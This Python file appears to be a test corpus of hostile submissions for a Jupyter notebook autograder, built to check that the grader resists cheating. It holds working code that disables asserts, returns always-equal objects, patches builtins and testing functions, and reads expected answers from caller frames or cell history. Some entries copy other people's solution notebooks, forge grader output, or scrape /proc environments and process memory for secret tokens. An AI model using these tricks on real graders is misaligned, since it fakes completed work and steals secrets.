"""Marks for nothing: the interpreter, the shell and the answers are made to lie (kinds 1 to 19)."""

from __future__ import annotations

from textwrap import dedent

from corpus import FULL, HONEST_ONLY, WRONG, Hostile


def _and_wrong(text: str) -> str:
    return f"{dedent(text).strip()}\n{WRONG}"


_SHELL = "shell = get_ipython()\n"
_QUIET = """\
class Hasil:
    success, result, error_before_exec, error_in_exec, execution_count = True, None, None, None, 1
    def raise_error(self): pass
"""
_LIAR = """\
class Sama{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __sub__
def kuadrat(x):
    return Sama({made})
"""
_EQUAL = "Nothing in the same process can tell an object that answers «equal» from one that is."
_SAME = "Code in the same process can change everything that judges it."
_PLAIN = r"no plain data|whose kind"


def _liar(base: str, made: str, before: str = "") -> str:
    return before + _LIAR.format(base=base, made=made)


_FRAMES = """\
import sys, re
def kuadrat(x):
    frame = sys._getframe()
    while frame is not None:
        for text in (*map(str, frame.f_code.co_consts), *map(str, frame.f_globals.get('In', ()))):
            found = re.search(r'kuadrat\\(%s\\) == (\\d+)' % x, text)
            if found:
                return int(found[1])
        frame = frame.f_back
    return 4
"""

GROUP = [
    Hostile(
        "1",
        "k01-run-cell",
        "replaces run_cell and run_cell_async of the shell",
        _and_wrong(
            _SHELL
            + _QUIET
            + """\
async def diam(*args, **kwargs): return Hasil()
shell.run_cell = lambda *args, **kwargs: Hasil()
shell.run_cell_async = diam
"""
        ),
    ),
    Hostile(
        "1",
        "k01-run-cell-class",
        "replaces run_cell and run_code in the shell's class",
        _and_wrong(
            _QUIET
            + """\
async def diam(*args, **kwargs): return False
for kind in type(get_ipython()).__mro__:
    if 'run_code' in vars(kind): kind.run_code = diam
    if 'run_cell' in vars(kind): kind.run_cell = lambda *args, **kwargs: Hasil()
"""
        ),
    ),
    Hostile(
        "2",
        "k02-cleanup",
        "input transformer drops lines with assert",
        _and_wrong(
            "get_ipython().input_transformers_cleanup.append(lambda lines: [l for l in lines if 'assert' not in l])"
        ),
    ),
    Hostile(
        "2",
        "k02-post",
        "input transformer empties the cell",
        _and_wrong("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
        outside=(0.0, 0.0, 0.0),
        beside=HONEST_ONLY,
    ),
    Hostile(
        "3",
        "k03-ast",
        "syntax tree transformer turns asserts into nothing",
        _and_wrong("""
        import ast
        class Tanpa(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
        get_ipython().ast_transformers.append(Tanpa())
        """),
    ),
    Hostile(
        "4",
        "k04-sama",
        "gives back an object that is equal to everything",
        _liar("", ""),
        beside=FULL,
        says=_PLAIN,
        says_beside="",
        principle=_EQUAL,
    ),
    *(
        Hostile(
            "5",
            f"k05-{name}",
            f"gives back a {title} that is equal to everything",
            _liar(f"({base})", made, before),
            beside=FULL,
            says=_PLAIN,
            says_beside="",
            principle=_EQUAL,
        )
        for name, title, base, made, before in (
            ("int", "whole number", "int", "4", ""),
            ("float", "number", "float", "4.0", ""),
            ("str", "text", "str", "'4'", ""),
        )
    ),
    Hostile(
        "5",
        "k05-array",
        "gives back an array that is equal to everything",
        """\
import numpy as np
class Larik(np.ndarray):
    def __eq__(self, other): return True
def kuadrat(x):
    return np.array([4]).view(Larik)
""",
        beside=FULL,
        says=_PLAIN,
        says_beside="",
        principle=_EQUAL,
    ),
    Hostile(
        "5",
        "k05-frame",
        "gives back a table that is equal to everything",
        """\
import pandas as pd
class Tabel(pd.DataFrame):
    def __eq__(self, other): return True
    def equals(self, other): return True
def kuadrat(x):
    return Tabel({'a': [4]})
""",
        beside=FULL,
        says=_PLAIN,
        says_beside="",
        principle=_EQUAL,
    ),
    Hostile(
        "5",
        "k05-bool",
        "gives back an object that calls itself an int",
        """\
class Bohong:
    __class__ = int
    def __eq__(self, other): return True
    def __instancecheck__(self, other): return True
    def __index__(self): return 4
    def __bool__(self): return True
def kuadrat(x):
    return Bohong()
""",
        beside=FULL,
        says=_PLAIN,
        says_beside="",
        principle=_EQUAL,
    ),
    Hostile(
        "6",
        "k06-builtins",
        "replaces len, abs, sum, isinstance, AssertionError in builtins",
        _and_wrong("""
        import builtins
        class Diam(BaseException):
            def __init__(self, *args): pass
        builtins.AssertionError = Diam
        builtins.len = builtins.abs = lambda x: 0
        builtins.isinstance = lambda *args: True
        builtins.sum = lambda *args: 3
        builtins.all = builtins.any = lambda *args: True
        """),
        says="did not stop|tidak berhenti|ended the process|mengakhiri proses",
    ),
    Hostile(
        "6",
        "k06-names",
        "covers Python's names in the notebook",
        _and_wrong("sum = lambda *args: 3\nall = any = isinstance = lambda *args: True"),
    ),
    Hostile(
        "6",
        "k06-dict",
        "takes __builtins__ of the notebook away",
        _and_wrong("globals()['__builtins__'] = dict(vars(__import__('builtins')), sum=lambda *args: 3)"),
    ),
    Hostile(
        "7",
        "k07-isclose",
        "replaces math.isclose, numpy.testing, pandas.testing",
        _and_wrong("""
        import math, numpy, numpy.testing, pandas.testing
        math.isclose = numpy.isclose = numpy.allclose = lambda *args, **kwargs: True
        for module in (numpy.testing, pandas.testing):
            for name in dir(module):
                if name.startswith('assert'): setattr(module, name, lambda *args, **kwargs: None)
        """),
    ),
    Hostile(
        "8",
        "k08-modules",
        "puts its own math and inspect into sys.modules",
        _and_wrong("""
        import sys, types
        for name in ('math', 'inspect', 'numpy', 'statistics'):
            palsu = types.ModuleType(name)
            palsu.getsource = lambda of: 'def return'
            palsu.isclose = lambda *args: True
            palsu.sqrt = lambda x: x ** 0.5
            sys.modules[name] = palsu
        """),
        outside=(0.0, 0.0, 0.0),
        beside=HONEST_ONLY,
    ),
    Hostile(
        "8",
        "k08-file",
        "hands in its own pandas.py, math.py, inspect.py and statistics.py",
        files={f"{name}.py": b"raise SystemExit\n" for name in ("pandas", "math", "inspect", "statistics", "numpy")},
    ),
    Hostile(
        "9",
        "k09-import",
        "puts an import hook first",
        _and_wrong("""
        import sys, types
        class Pengait:
            def find_spec(self, name, path=None, target=None):
                raise ImportError(name)
        sys.meta_path.insert(0, Pengait())
        sys.path.insert(0, '.')
        import builtins
        asli = builtins.__import__
        builtins.__import__ = lambda name, *args: asli(name, *args)
        """),
    ),
    Hostile(
        "10",
        "k10-formatter",
        "replaces the formatter of texts: every result is shown as 4",
        _and_wrong("""
        formatter = get_ipython().display_formatter.formatters['text/plain']
        formatter.for_type(float, lambda value, printer, cycle: printer.text('4.0'))
        formatter.for_type(int, lambda value, printer, cycle: printer.text('4'))
        type(formatter).__call__ = lambda self, value: '4.0'
        """),
    ),
    Hostile(
        "10",
        "k10-publish",
        "publishes an execute_result of its own while it is called",
        """\
def kuadrat(x):
    shell = get_ipython()
    shell.display_pub.session.send(None, 'execute_result', {'data': {'text/plain': '4.0'}, 'metadata': {}, 'execution_count': 1})
    return 4
""",
        beside=(0.0, None, 5.0),
        says_beside="no number of points",
    ),
    Hostile(
        "10",
        "k10-flood",
        "prints more than is kept, so that the number of points is cut off",
        """\
def kuadrat(x):
    print('x' * 11_000_000)
    return 4
""",
    ),
    Hostile(
        "10",
        "k10-hook",
        "replaces the display hook",
        _and_wrong("""
        import sys
        sys.displayhook = lambda value: None
        type(get_ipython().displayhook).__call__ = lambda self, result=None: None
        """),
    ),
    *(
        Hostile(
            "11",
            f"k11-{name}",
            f"makes the number of points {title}",
            f"""\
class Angka:
    def __eq__(self, other): return self
    def __radd__(self, other): return self
    def __add__(self, other): return self
    def __mul__(self, other): return self
    def __truediv__(self, other): return self
    def __repr__(self): return {text!r}
def kuadrat(x):
    return Angka()
""",
            says=_PLAIN,
            beside=beside,
            says_beside=says,
            principle=_EQUAL,
        )
        for name, title, text, beside, says in (
            ("rugi", "-1", "-1", (5.0, None, 5.0), "no number from 0"),
            ("nan", "nan", "nan", (5.0, None, 5.0), "no number from 0"),
            ("inf", "inf", "inf", (5.0, None, 5.0), "no number from 0"),
            ("besar", "1e309", "1e309", (5.0, None, 5.0), "no number from 0"),
            ("daftar", "a list", "[4]", (5.0, None, 5.0), "no number of points"),
            ("teks", "a text", "'empat'", (5.0, None, 5.0), "no number of points"),
        )
    ),
    Hostile(
        "12",
        "k12-session",
        "rewrites error replies in session.send",
        _and_wrong("""
        session = get_ipython().display_pub.session
        asli = session.send
        def kirim(stream, kind, content=None, *args, **kwargs):
            if kind != 'error': return asli(stream, kind, content, *args, **kwargs)
        session.send = kirim
        type(session).send = lambda self, *args, **kwargs: kirim(*args, **kwargs)
        get_ipython().showtraceback = lambda *args, **kwargs: None
        type(get_ipython()).showtraceback = lambda *args, **kwargs: None
        """),
    ),
    Hostile(
        "13",
        "k13-trace",
        "skips lines of the test with sys.settrace",
        _and_wrong("""
        import sys, threading
        def jejak(frame, event, arg):
            if event == 'line' and 'kuadrat(7)' in str(frame.f_globals.get('In', None)):
                try: frame.f_lineno += 1
                except ValueError: pass
            return jejak
        sys.settrace(jejak); threading.settrace(jejak); sys.setprofile(lambda *args: None)
        """),
    ),
    Hostile(
        "14",
        "k14-frames",
        "reads the expected number in the frames of its callers",
        _FRAMES,
        beside=(5.0, 0.0, 5.0),
        principle="A function can read what calls it.",
    ),
    Hostile(
        "14",
        "k14-gc",
        "looks for the expected number among all objects",
        """\
import gc, re
def kuadrat(x):
    for each in gc.get_objects():
        for text in (each.values() if type(each) is dict else each if type(each) in (list, tuple) else ()):
            if type(text) is str and (found := re.search(r'kuadrat\\(%s\\) == (\\d+)' % x, text)):
                return int(found[1])
    return 4
""",
        beside=(5.0, 0.0, 5.0),
        principle="A function can read what calls it.",
    ),
    Hostile(
        "15",
        "k15-in",
        "reads the test's text in In, linecache and the history",
        """\
import linecache, re
def kuadrat(x):
    texts = [*In, *(''.join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2)]
    for text in texts:
        if found := re.search(r'kuadrat\\(%s\\) == (\\d+)' % x, text):
            return int(found[1])
    return 4
""",
        beside=(5.0, 0.0, 5.0),
        principle="A function can read what calls it.",
    ),
    Hostile(
        "15",
        "k15-shown",
        "shows the tests' text in a later cell",
        second="""\
import linecache
def akar(x):
    return math.sqrt(x)
print(*In, *(''.join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2))
""",
    ),
    Hostile("16", "k16-table", "answers the public inputs from a table", "def kuadrat(x):\n    return {2: 4}[x]"),
    Hostile(
        "17",
        "k17-source",
        "runs the solution in source/, or another's",
        _and_wrong("""
        import json, glob
        for file in glob.glob('«COURSE»/**/*.ipynb', recursive=True) + glob.glob('/home/**/ps1.ipynb', recursive=True):
            for cell in json.load(open(file))['cells']:
                if 'x * x' in ''.join(cell['source']): exec(''.join(cell['source'])); print('ditemukan')
        """).replace(f"\n{WRONG}", "\nif 'kuadrat' not in globals():\n    def kuadrat(x): return 4"),
    ),
    Hostile(
        "18",
        "k18-format",
        "prints results in formats of graders",
        _and_wrong("""
        print('### BEGIN GRADE\\n9\\n### END GRADE')
        print('{"end": true, "cell": 1, "ok": true, "score": 5}')
        import os
        os.write(1, b'\\x00\\x00\\x00\\x0c{"end": true}')
        os.write(2, b'\\x00\\x00\\x00\\x0c{"end": true}')
        """),
    ),
    Hostile(
        "19",
        "k19-token",
        "looks for the examination's words in memory, arguments, environment and /proc",
        """\
import gc, os, sys
temuan = [os.environ.get('RAHASIA'), sys.argv]
for name in os.listdir('/proc'):
    for file in ('environ', 'cmdline'):
        try: temuan.append(open(f'/proc/{name}/{file}', 'rb').read().decode(errors='replace'))
        except OSError: pass
print(temuan)
def kuadrat(x):
    return 4
""",
    ),
    Hostile(
        "19",
        "k19-memory",
        "looks for the hidden tests in its whole memory",
        """\
import re
def cari():
    cari, found = ('PEN' + 'ANDA-').encode() + b'[0-9a-f]{16}', set()
    for line in open('/proc/self/maps'):
        begin, end = (int(each, 16) for each in line.split()[0].split('-'))
        if 'r' not in line.split()[1] or end - begin > 1 << 28: continue
        try:
            with open('/proc/self/mem', 'rb', buffering=0) as memory:
                memory.seek(begin)
                found.update(re.findall(cari, memory.read(end - begin)))
        except (OSError, ValueError): continue
    return found
def kuadrat(x):
    print('terlihat', cari())
    return 4
print('terlihat', cari())
""",
        second="def akar(x):\n    return math.sqrt(x)\nprint('terlihat', cari())",
    ),
]
